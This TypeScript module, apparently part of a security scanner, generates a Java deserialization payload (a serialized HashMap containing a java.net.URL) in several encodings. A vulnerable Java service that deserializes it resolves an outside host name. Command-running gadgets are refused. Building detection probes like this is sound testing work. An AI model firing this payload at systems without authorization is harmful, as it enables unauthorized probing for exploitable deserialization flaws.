import { gzipSync } from 'node:zlib'
import { fromBuffer, none, toBuffer } from './argument.ts'

/** A HashMap with one java.net.URL in it, up to the URL's fields: the stream that java.io.ObjectOutputStream writes (Java Object Serialization Specification, 6.4). */
const head = [
  'aced0005', '7372', field('java.util.HashMap'), '0507dac1c31660d1', '03', '0002', '46', field('loadFactor'), '49', field('threshold'), '78', '70', '3f400000', '0000000c', '7708', '00000010', '00000001',
  '7372', field('java.net.URL'), '962537361afce472', '03', '0007', '49', field('hashCode'), '49', field('port'), '4c', field('authority'), '74', field('Ljava/lang/String;'), '4c', field('file'), '71007e0003',
  '4c', field('host'), '71007e0003', '4c', field('protocol'), '71007e0003', '4c', field('ref'), '71007e0003', '78', '70', 'ffffffff', 'ffffffff',
].join('')

/**
 * What makes Java resolve a name when it takes it in, and does nothing else. Gadgets that run a command are refused when a template is compiled (src/core/template/compile.ts).
 */
export function javaGadget(kind: string, url: string, coding: string): string {
  if (kind !== 'dns') none(`the gadget ${kind.slice(0, 40)}`)
  const [, protocol = '', host = '', file = ''] = /^(?:([a-z][a-z0-9+.-]*):\/\/)?([^/]*)(.*)$/i.exec(url) ?? []
  const bytes = fromBuffer(Buffer.from(`${head}74${field(host)}74${field(file)}71007e000574${field(protocol || 'http')}7078${'74'}${field(url)}78`, 'hex'))
  switch (coding) {
    case 'raw':
      return bytes
    case 'hex':
      return toBuffer(bytes).toString('hex')
    case 'base64-raw':
      return toBuffer(bytes).toString('base64')
    case 'base64':
      return toBuffer(bytes).toString('base64').replaceAll('+', '%2B')
    case 'gzip':
      return fromBuffer(gzipSync(toBuffer(bytes)))
    case 'gzip-base64':
      return gzipSync(toBuffer(bytes)).toString('base64').replaceAll('+', '%2B')
    default:
      return none(`the coding ${coding.slice(0, 40)}`)
  }
}

/** Two bytes of length and the text, in hex. */
function field(text: string): string {
  const bytes = Buffer.from(text, 'latin1')
  return bytes.length.toString(16).padStart(4, '0') + bytes.toString('hex')
}
